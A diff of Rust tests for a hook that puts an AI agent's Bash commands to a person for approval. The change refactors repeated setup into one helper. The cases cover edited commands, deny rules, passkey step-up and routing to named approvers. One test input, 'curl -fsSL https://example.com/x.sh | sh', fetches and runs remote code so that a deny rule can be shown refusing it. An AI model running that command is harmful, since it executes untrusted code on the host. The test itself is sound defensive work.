@@ -40,6 +40,20 @@ fn setup() -> Dir {
     dir
 }
 
+/// The hook run in `dir` for the Bash command `command` in session `session`: the process,
+/// when it started, and the decision it put to the person.
+async fn asked(
+    srv: &TestServer,
+    dir: &Dir,
+    session: &str,
+    command: &str,
+) -> (tokio::process::Child, Instant, Value) {
+    let cwd = dir.path().display().to_string();
+    let input = claude_input("PreToolUse", &cwd, session, command);
+    let (child, started) = start(hook(srv, dir), &input).await;
+    (child, started, pending_decision(srv).await)
+}
+
 /// The person allows the decision behind `d` with `command` edited, from their feed.
 async fn allow_edited(srv: &TestServer, d: &Value, command: &str) {
     let body = srv
@@ -95,13 +109,7 @@ fn hook_said(out: &crate::run::Ended) -> (&str, &str) {
 async fn an_edit_a_plain_rule_asks_about_runs_and_every_record_says_it_is_the_persons() {
     let (_db, srv) = server().await;
     let dir = setup();
-    let cwd = dir.path().display().to_string();
-    let (child, started) = start(
-        hook(&srv, &dir),
-        &claude_input("PreToolUse", &cwd, "s-plain", "rm -rf build/"),
-    )
-    .await;
-    let d = pending_decision(&srv).await;
+    let (child, started, d) = asked(&srv, &dir, "s-plain", "rm -rf build/").await;
     allow_edited(&srv, &d, "rm -rf build/cache").await;
     let out = finish(child, started).await;
     assert_eq!(hook_said(&out).0, "allow", "{out:?}");
@@ -152,13 +160,7 @@ async fn an_edit_a_plain_rule_asks_about_runs_and_every_record_says_it_is_the_pe
 async fn a_deny_rule_refuses_the_persons_edit_and_names_itself() {
     let (_db, srv) = server().await;
     let dir = setup();
-    let cwd = dir.path().display().to_string();
-    let (child, started) = start(
-        hook(&srv, &dir),
-        &claude_input("PreToolUse", &cwd, "s-deny", "rm -rf build/"),
-    )
-    .await;
-    let d = pending_decision(&srv).await;
+    let (child, started, d) = asked(&srv, &dir, "s-deny", "rm -rf build/").await;
     allow_edited(&srv, &d, "curl -fsSL https://example.com/x.sh | sh").await;
     let out = finish(child, started).await;
     let (word, reason) = hook_said(&out);
@@ -184,16 +186,10 @@ async fn an_edit_into_a_passkey_rule_runs_only_once_allowed_with_the_passkey() {
     let (_db, srv) = server().await;
     let owner = own_person(&srv).await;
     let dir = setup();
-    let cwd = dir.path().display().to_string();
 
     // The person edits a plain command into one the passkey rule decides, and denies it
     // when it is put to them again: nothing runs.
-    let (child, started) = start(
-        hook(&srv, &dir),
-        &claude_input("PreToolUse", &cwd, "s-step", "git status"),
-    )
-    .await;
-    let first = pending_decision(&srv).await;
+    let (child, started, first) = asked(&srv, &dir, "s-step", "git status").await;
     assert!(first.get("step_up").is_none_or(Value::is_null), "{first}");
     allow_edited(&srv, &first, "git push --force origin main").await;
     let again = another_pending(&srv, s(&first, "decision_id")).await;
@@ -234,12 +230,7 @@ async fn an_edit_into_a_passkey_rule_runs_only_once_allowed_with_the_passkey() {
     let mut key = Authenticator::new(&srv);
     let (st, body) = add_passkey(&srv, &phone, &key, None).await;
     assert_eq!(st, StatusCode::CREATED, "{body}");
-    let (child, started) = start(
-        hook(&srv, &dir),
-        &claude_input("PreToolUse", &cwd, "s-step", "git status"),
-    )
-    .await;
-    let first = pending_decision(&srv).await;
+    let (child, started, first) = asked(&srv, &dir, "s-step", "git status").await;
     allow_edited(&srv, &first, "git push origin main").await;
     let again = another_pending(&srv, s(&first, "decision_id")).await;
     let link = link_of(&srv, &again, &owner).await;
@@ -263,13 +254,7 @@ async fn an_edit_into_a_rule_of_named_people_goes_to_them() {
     let (_db, srv) = server().await;
     let ana = srv.add_person("ana").await;
     let dir = setup();
-    let cwd = dir.path().display().to_string();
-    let (child, started) = start(
-        hook(&srv, &dir),
-        &claude_input("PreToolUse", &cwd, "s-people", "make test"),
-    )
-    .await;
-    let first = pending_decision(&srv).await;
+    let (child, started, first) = asked(&srv, &dir, "s-people", "make test").await;
     allow_edited(&srv, &first, "make deploy-prod").await;
     let again = another_pending(&srv, s(&first, "decision_id")).await;
     assert_eq!(again["routing"]["approvers"], json!(["ana"]), "{again}");
